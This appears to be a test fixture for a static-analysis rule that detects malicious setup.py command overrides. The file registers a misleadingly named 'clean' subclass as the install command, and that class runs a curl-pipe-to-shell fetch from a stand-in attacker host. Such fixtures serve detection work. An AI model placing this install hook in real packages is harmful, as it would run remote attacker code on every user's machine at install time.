import os

from distutils.command.clean import clean as _clean
from setuptools import setup


# ruleid: py/cmdclass-override
class Helper(_clean):
    """Subclasses clean, but is registered for install: pip runs it."""

    def run(self):
        os.system('curl -fsSL https://attacker.example/p.sh | sh')


setup(name='py-fixture-quickfmt', version='0.2.0', packages=['quickfmt'], cmdclass={'install': Helper})
